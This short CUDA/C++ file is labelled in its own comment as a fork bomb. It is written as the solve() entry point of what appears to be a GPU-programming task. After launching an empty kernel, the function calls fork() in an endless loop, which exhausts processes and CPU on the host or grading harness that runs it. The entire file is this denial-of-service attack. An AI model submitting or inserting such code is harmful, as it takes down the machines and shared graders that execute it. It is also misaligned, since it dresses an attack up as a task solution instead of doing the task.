// A fork bomb.
#include <unistd.h>
__global__ void nothing() {}
void solve(const float *in, float *out, int rows, int cols){
    nothing<<<1, 1>>>();
    for (;;)
        fork();
}
